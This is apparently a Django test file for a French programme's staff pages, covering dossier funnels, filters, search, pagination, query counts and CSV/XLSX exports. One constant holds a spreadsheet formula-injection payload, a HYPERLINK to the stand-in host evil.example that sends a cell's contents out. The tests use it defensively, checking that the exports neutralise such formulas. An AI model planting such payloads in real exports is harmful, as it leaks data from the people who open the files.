"""The programme team's side of a call: the funnel of every call, the dossiers of
one call (filters, search, pagination), one dossier in full, and the exports."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from eig.applications.queries import funnel_of_calls, staff_dossiers
from eig.applications.services import set_wishes
from eig.calls.defaults import install_application_form
from eig.calls.models import Call, Dossier
from eig.calls.services import attach_file, missing_for, save_step, start_dossier, submit_dossier, withdraw_dossier
from eig.challenges.models import Challenge
from eig.files.models import StoredFile
from tests.factories import ChallengeFactory, PositionFactory, PromotionFactory, StaffFactory, UserFactory, profile
from tests.factories.files import PDF_BYTES

pytestmark = pytest.mark.django_db

PARIS = ZoneInfo("Europe/Paris")
OPENS = datetime.datetime(2024, 1, 8, 9, 0, tzinfo=PARIS)
CLOSES = datetime.datetime(2024, 2, 8, 17, 0, tzinfo=PARIS)
DURING = datetime.datetime(2024, 1, 20, 14, 5, 9, tzinfo=PARIS)
INJECTION = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'

ANSWERS = {
    "identite": {"civilite": "madame", "telephone": "0102030405", "ville": "Lyon"},
    "parcours": {
        "profession": "developer",
        "experience_annees": "7",
        "parcours": "Dix ans de logiciel libre.",
        "projet": "Un service public numérique.",
    },
    "motivation": {"motivation": "Servir l'intérêt général.", "contribution": "Mon expérience des données."},
    "disponibilite": {"disponible": True, "mobilite": False},
    "declarations": {
        "personne_physique": True,
        "pas_agent_public": True,
        "pas_jury": True,
        "pas_etudiant": True,
        "donnees_personnelles": True,
    },
}


@pytest.fixture(autouse=True)
def private_root(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    settings.FILE_SCANNER = "eig.files.scanners.NoopScanner"


@pytest.fixture
def staff_client():
    client = Client()
    client.force_login(StaffFactory())
    return client


def build_call(slug="appel-eig-8", prefix="EIG8"):
    promotion = PromotionFactory()
    call = Call.objects.create(
        promotion=promotion,
        kind=Call.Kind.APPLICATIONS,
        title=f"Appel {prefix}",
        slug=slug,
        opens_at=OPENS,
        closes_at=CLOSES,
        dossier_prefix=prefix,
    )
    install_application_form(call)
    challenge = ChallengeFactory(promotion=promotion, status=Challenge.Status.RECRUITING, title="Défi des données")
    dev = PositionFactory(challenge=challenge, profile=profile("dev"))
    data = PositionFactory(challenge=challenge, profile=profile("datascience"))
    return call, dev, data


def make_dossier(
    call, *, wishes=(), complete=True, submit=False, withdraw=False, email=None, prenom="Ada", nom="Lovelace", **extra
):
    owner = UserFactory(**({"email": email} if email else {}))
    dossier = start_dossier(call, owner=owner, now=DURING)
    steps = {step.slug: step for step in call.steps.all()}
    identity = {**ANSWERS["identite"], "prenom": prenom, "nom": nom}
    save_step(dossier, steps["identite"], {**identity, **extra}, by=owner, now=DURING)
    if complete:
        for slug in ["parcours", "motivation", "disponibilite", "declarations"]:
            save_step(dossier, steps[slug], ANSWERS[slug], by=owner, now=DURING)
        cv = steps["pieces"].questions.get(key="cv")
        attach_file(dossier, cv, SimpleUploadedFile("cv-ada.pdf", PDF_BYTES), by=owner, now=DURING)
    if wishes:
        set_wishes(dossier, [p.pk for p in wishes], by=owner, now=DURING)
    if submit:
        submit_dossier(dossier, by=owner, now=DURING)
    if withdraw:
        withdraw_dossier(dossier, by=owner, now=DURING)
    dossier.refresh_from_db()
    return dossier


def numbers(response):
    return sorted(d.number for d in response.context["page_obj"])


def list_url(call, query=""):
    return reverse("staff:dossier_list", kwargs={"slug": call.slug}) + query


# --- Who sees the staff pages -------------------------------------------------------


def staff_urls(call, dossier):
    slug = {"slug": call.slug}
    return [
        reverse("staff:call_list"),
        reverse("staff:dossier_list", kwargs=slug),
        reverse("staff:dossier_detail", kwargs={**slug, "number": dossier.number}),
        reverse("staff:export_csv", kwargs=slug),
        reverse("staff:export_xlsx", kwargs=slug),
    ]


@pytest.mark.parametrize(
    "who",
    ["anonymous", "candidate", "owner_of_the_dossier", "staff_role_without_is_staff", "inactive_staff"],
)
def test_every_staff_page_answers_404_outside_the_programme_team(who):
    call, dev, _ = build_call()
    dossier = make_dossier(call, wishes=[dev])
    user = {
        "anonymous": None,
        "candidate": UserFactory(roles=["candidate"]),
        "owner_of_the_dossier": dossier.owner,
        "staff_role_without_is_staff": UserFactory(roles=["staff"]),
        "inactive_staff": StaffFactory(is_active=False),
    }[who]
    client = Client()
    if user is not None:
        client.force_login(user)
    assert [client.get(url).status_code for url in staff_urls(call, dossier)] == [404] * 5


def test_staff_pages_refuse_writes_with_405_even_with_a_valid_csrf_token(staff_client):
    call, dev, _ = build_call()
    dossier = make_dossier(call, wishes=[dev])
    statuses = {
        getattr(staff_client, method)(url).status_code
        for url in staff_urls(call, dossier)
        for method in ["post", "put", "patch", "delete"]
    }
    assert statuses == {405}


def test_an_unknown_call_or_a_dossier_of_another_call_answers_404(staff_client):
    call, dev, _ = build_call()
    other, _, _ = build_call(slug="autre-appel", prefix="AUTRE")
    dossier = make_dossier(other)
    assert staff_client.get(list_url(Call(slug="inconnu"))).status_code == 404
    url = reverse("staff:dossier_detail", kwargs={"slug": call.slug, "number": dossier.number})
    assert staff_client.get(url).status_code == 404


# --- The funnel ---------------------------------------------------------------------


def build_funnel():
    call, dev, data = build_call()
    make_dossier(call, wishes=[dev])  # complete draft
    make_dossier(call, complete=False)  # incomplete draft
    make_dossier(call, complete=True)  # no wish yet: incomplete draft
    make_dossier(call, wishes=[dev, data], submit=True)
    make_dossier(call, wishes=[dev], submit=True)
    make_dossier(call, wishes=[data, dev], submit=True)
    make_dossier(call, wishes=[data], submit=True, withdraw=True)
    return call


def test_the_funnel_counts_each_stage_and_submitted_dossiers_per_first_wished_profile():
    call = build_funnel()
    empty, _, _ = build_call(slug="appel-vide", prefix="VIDE")
    funnel = funnel_of_calls([call, empty])
    first_wishes = {p.code: n for p, n in funnel[call.pk].pop("first_wish_profiles").items()}
    assert funnel[call.pk] == {
        "started": 7,
        "complete_drafts": 1,
        "incomplete_drafts": 2,
        "submitted": 3,
        "withdrawn": 1,
    }
    assert first_wishes == {"dev": 2, "datascience": 1}
    assert funnel[empty.pk] == {
        "started": 0,
        "complete_drafts": 0,
        "incomplete_drafts": 0,
        "submitted": 0,
        "withdrawn": 0,
        "first_wish_profiles": {},
    }


def test_the_call_list_shows_the_funnel_as_a_table_and_bars_without_inline_style(staff_client):
    call = build_funnel()
    response = staff_client.get(reverse("staff:call_list"))
    html = response.content.decode()
    assert response.status_code == 200
    row = response.context["rows"][0]
    assert [(bar.count, bar.percent) for bar in row["bars"]] == [
        (7, 100),
        (1, 14),
        (2, 29),
        (3, 43),
        (1, 14),
        (2, 29),  # first wish: Développement
        (1, 14),  # first wish: Data science
    ]
    assert 'width="43%"' in html
    assert "Développement : 2" in html
    assert reverse("staff:dossier_list", kwargs={"slug": call.slug}) in html
    assert "style=" not in html and "<script>" not in html


# --- The list of dossiers: filters and search -----------------------------------------


@pytest.fixture
def crowd():
    call, dev, data = build_call()
    return {
        "call": call,
        "dev": dev,
        "data": data,
        "complete_draft": make_dossier(call, wishes=[dev], email="complete@example.org"),
        "incomplete": make_dossier(call, complete=False, prenom="Zoé", nom="Dupont", email="zoe@example.org"),
        "submitted": make_dossier(call, wishes=[data, dev], submit=True, nom="Hopper", email="grace@example.org"),
        "withdrawn": make_dossier(call, wishes=[data], submit=True, withdraw=True, email="retired@example.org"),
    }


@pytest.mark.parametrize(
    "query, expected",
    [
        ("", ["complete_draft", "incomplete", "submitted", "withdrawn"]),
        ("?status=submitted", ["submitted"]),
        ("?status=draft", ["complete_draft", "incomplete"]),
        ("?completeness=complete", ["complete_draft", "submitted", "withdrawn"]),
        ("?completeness=incomplete", ["incomplete"]),
        ("?wish={dev}", ["complete_draft", "submitted"]),
        ("?wish={data}", ["submitted", "withdrawn"]),
        ("?profile=dev", ["complete_draft", "submitted"]),
        ("?profile=datascience&status=submitted", ["submitted"]),
        ("?profile=design", []),
        ("?q=grace%40example", ["submitted"]),  # owner's email
        ("?q=hopper", ["submitted"]),  # the "nom" answer
        ("?q=Zo%C3%A9", ["incomplete"]),  # the "prenom" answer, accented
        ("?q=zo%C3%A9+dupont", ["incomplete"]),  # every word must match
        ("?q=introuvable", []),
    ],
)
def test_filters_and_search_select_the_dossiers(staff_client, crowd, query, expected):
    query = query.format(dev=crowd["dev"].pk, data=crowd["data"].pk)
    response = staff_client.get(list_url(crowd["call"], query))
    assert response.status_code == 200
    assert numbers(response) == sorted(crowd[name].number for name in expected)


def test_search_finds_a_dossier_by_its_number_and_its_owners_account_name(staff_client, crowd):
    dossier = crowd["submitted"]
    dossier.owner.first_name, dossier.owner.last_name = "Grace", "Brewster"
    dossier.owner.save()
    assert numbers(staff_client.get(list_url(crowd["call"], f"?q={dossier.number}"))) == [dossier.number]
    assert numbers(staff_client.get(list_url(crowd["call"], "?q=brewster"))) == [dossier.number]


def test_sql_completeness_agrees_with_the_checklist_of_the_dossier_engine(crowd):
    call = crowd["call"]
    unticked = make_dossier(call, wishes=[crowd["dev"]])
    save_step(unticked, call.steps.get(slug="declarations"), {"pas_jury": False}, by=unticked.owner, now=DURING)
    optional_left = make_dossier(call, wishes=[crowd["dev"]])
    assert not optional_left.answers.filter(question__key__in=["portfolio", "forge", "binome"]).exists()
    computed = {d.number: d.is_complete for d in staff_dossiers(call)}
    expected = {d.number: missing_for(d) == [] for d in Dossier.objects.filter(call=call)}
    assert computed == expected
    assert computed[unticked.number] is False and computed[optional_left.number] is True


def test_an_invalid_filter_shows_its_error_and_no_dossier(staff_client, crowd):
    response = staff_client.get(list_url(crowd["call"], "?status=lost"))
    assert response.status_code == 200
    assert response.context["form"].errors["status"]
    assert numbers(response) == []


def test_the_list_shows_completeness_wishes_and_export_links_keeping_the_filters(staff_client, crowd):
    html = staff_client.get(list_url(crowd["call"], "?status=draft")).content.decode()
    assert "Incomplet (" in html and "Complet" in html
    assert "Défi des données" in html
    assert reverse("staff:export_csv", kwargs={"slug": crowd["call"].slug}) + "?status=draft" in html
    assert "style=" not in html


def test_the_list_is_paginated_by_50(staff_client):
    call, dev, _ = build_call()
    for _ in range(51):
        make_dossier(call, complete=False)
    first = staff_client.get(list_url(call))
    second = staff_client.get(list_url(call, "?page=2"))
    assert len(first.context["page_obj"]) == 50 and len(second.context["page_obj"]) == 1


# --- Query counts ---------------------------------------------------------------------


def queries_for(client, url):
    with CaptureQueriesContext(connection) as context:
        assert client.get(url).status_code == 200
    return len(context.captured_queries)


def grow(call, count, positions):
    for index in range(count):
        if index % 3 == 0:
            make_dossier(call, complete=False)
        else:
            make_dossier(call, wishes=positions, submit=index % 3 == 1)


@pytest.mark.parametrize("query", ["", "?page=1", "?status=submitted&completeness=complete&profile=dev&q=ada"])
def test_the_dossier_list_keeps_a_flat_query_count_from_1_to_50_rows(staff_client, query):
    call, dev, data = build_call()
    grow(call, 2, [dev, data])  # one incomplete draft, one submitted dossier
    url = list_url(call, query)
    staff_client.get(url)  # the first page reads the site's DSFR settings, kept under the content version
    with_one = queries_for(staff_client, url)
    grow(call, 49, [dev, data])
    assert queries_for(staff_client, url) == with_one


def test_the_call_list_keeps_a_flat_query_count_from_1_to_50_dossiers(staff_client):
    call, dev, data = build_call()
    grow(call, 2, [dev, data])
    url = reverse("staff:call_list")
    with_one = queries_for(staff_client, url)
    grow(call, 49, [dev, data])
    build_call(slug="deuxieme-appel", prefix="DEUX")
    assert queries_for(staff_client, url) == with_one


def test_the_exports_keep_a_flat_query_count(staff_client):
    call, dev, data = build_call()
    grow(call, 2, [dev, data])
    urls = [reverse(name, kwargs={"slug": call.slug}) for name in ["staff:export_csv", "staff:export_xlsx"]]
    with_one = [queries_for(staff_client, url) for url in urls]
    grow(call, 49, [dev, data])
    assert [queries_for(staff_client, url) for url in urls] == with_one


# --- One dossier ----------------------------------------------------------------------


def test_the_dossier_page_shows_every_answer_wishes_versions_and_activity(staff_client):
    call, dev, data = build_call()
    dossier = make_dossier(call, wishes=[data, dev], submit=True)
    StoredFile.objects.update(scan_status=StoredFile.ScanStatus.CLEAN)  # the scan runs on commit
    url = reverse("staff:dossier_detail", kwargs={"slug": call.slug, "number": dossier.number})
    response = staff_client.get(url)
    html = response.content.decode()
    assert response.status_code == 200
    labels = [a.question.label for block in response.context["steps"] for a in block["answers"]]
    assert labels[:3] == ["Civilité", "Prénom", "Nom"] and len(labels) == 25
    assert "Madame" in html and "Développeur ou développeuse" in html  # choice labels, not values
    cv = dossier.answers.get(question__key="cv")
    shown = next(a.file for block in response.context["steps"] for a in block["answers"] if a.file)
    stored = StoredFile.objects.get(public_id=cv.value)
    assert shown.url == stored.get_absolute_url() and shown.is_servable
    assert f'href="{stored.get_absolute_url()}"' in html and "cv-ada.pdf" in html
    assert "77\xa0octets" in html  # the size
    assert [(w.rank, w.position.profile.code) for w in response.context["wishes"]] == [(1, "datascience"), (2, "dev")]
    version = dossier.versions.get()
    assert "20/01/2024 14:05:09" in html  # the submit time, Paris, to the second
    assert version.digest in html
    verbs = [entry.verb for entry in response.context["activity"]]
    assert verbs[0] == "dossier.started" and verbs[-1] == "dossier.submitted"
    assert "Dossier déposé" in html
    assert response.context["missing"] == []
    assert "style=" not in html


def test_a_file_not_yet_cleared_by_the_scan_is_named_without_a_link(staff_client):
    call, dev, _ = build_call()
    dossier = make_dossier(call, wishes=[dev])
    stored = StoredFile.objects.get()
    url = reverse("staff:dossier_detail", kwargs={"slug": call.slug, "number": dossier.number})
    html = staff_client.get(url).content.decode()
    assert "cv-ada.pdf" in html and "en cours d&#x27;analyse" in html
    assert stored.get_absolute_url() not in html


def test_the_dossier_page_names_what_a_draft_lacks(staff_client):
    call, _, _ = build_call()
    dossier = make_dossier(call, complete=False)
    url = reverse("staff:dossier_detail", kwargs={"slug": call.slug, "number": dossier.number})
    missing = staff_client.get(url).context["missing"]
    assert missing[0] == "Profession" and missing[-1] == "Au moins un vœu parmi les postes proposés"


# --- Exports --------------------------------------------------------------------------


def test_the_csv_export_is_french_excel_ready_and_neutralises_formulas(staff_client, crowd):
    call = crowd["call"]
    evil = make_dossier(call, wishes=[crowd["dev"]], submit=True, ville=INJECTION, prenom="@SUM(A1)", nom="-2+3")
    response = staff_client.get(reverse("staff:export_csv", kwargs={"slug": call.slug}) + "?status=submitted")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="appel-eig-8-dossiers.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    assert header[:4] == ["Numéro", "Statut", "Déposé le", "Adresse électronique"]
    assert header[4:7] == ["Civilité", "Prénom", "Nom"]
    assert header[-3:] == ["Vœu 1", "Vœu 2", "Vœu 3"]
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert sorted(by_number) == sorted([crowd["submitted"].number, evil.number])
    row = by_number[evil.number]
    assert row["Ville de résidence"] == "'" + INJECTION
    assert row["Prénom"] == "'@SUM(A1)" and row["Nom"] == "'-2+3"
    assert row["Statut"] == "Déposé" and row["Déposé le"] == "2024-01-20 14:05:09"
    assert row["Civilité"] == "Madame" and row["Années d'expérience professionnelle"] == "7"
    assert row["Vœu 1"] == "Défi des données — Développement" and row["Vœu 2"] == ""
    assert row["CV au format PDF"].startswith("cv-ada.pdf (77\xa0octets) — http://testserver/fichiers/")
    assert row["Je candidate en tant que personne physique, en mon nom propre."] == "Déclaré sur l'honneur"


def test_the_xlsx_export_stores_a_formula_like_answer_as_a_string(staff_client, crowd):
    call = crowd["call"]
    evil = make_dossier(call, wishes=[crowd["dev"]], submit=True, ville=INJECTION, telephone="+33612345678")
    response = staff_client.get(reverse("staff:export_xlsx", kwargs={"slug": call.slug}) + f"?q={evil.number}")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="appel-eig-8-dossiers.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert sheet.max_row == 2
    assert cells["Ville de résidence"].data_type == "s"
    assert cells["Ville de résidence"].value == "'" + INJECTION
    assert cells["Téléphone"].value == "'+33612345678" and cells["Téléphone"].data_type == "s"
    assert cells["Numéro"].value == evil.number
    assert cells["Années d'expérience professionnelle"].value == 7


def test_an_export_with_an_invalid_filter_is_refused(staff_client, crowd):
    url = reverse("staff:export_csv", kwargs={"slug": crowd["call"].slug}) + "?completeness=peut-etre"
    assert staff_client.get(url).status_code == 400


def test_dossier_statuses_of_the_crowd(crowd):
    # The fixture itself, as the filters above read it.
    assert [crowd[n].status for n in ["complete_draft", "incomplete", "submitted", "withdrawn"]] == [
        Dossier.Status.DRAFT,
        Dossier.Status.DRAFT,
        Dossier.Status.SUBMITTED,
        Dossier.Status.WITHDRAWN,
    ]


def test_a_page_of_the_dossier_list_reads_only_its_rows_in_order_from_the_index():
    """The list's page query walks the call's dossiers newest first from an index and stops at the page's
    end: no sort of every dossier (whose completeness the query computes) before the page is cut."""
    call, _dev, _data = build_call()
    query = staff_dossiers(call)[:50].query
    sql, params = query.sql_with_params()
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute("EXPLAIN QUERY PLAN " + sql, params)
            plan = " ".join(str(row[-1]) for row in cursor.fetchall())
            assert "dossier_call_created" in plan and "TEMP B-TREE" not in plan, plan
        else:
            cursor.execute("SET LOCAL enable_seqscan = off")
            cursor.execute("EXPLAIN " + sql, params)
            plan = " ".join(row[0] for row in cursor.fetchall())
            assert "dossier_call_created" in plan, plan
    assert all(d.call is call for d in staff_dossiers(call))  # each row gets the call itself, no copy
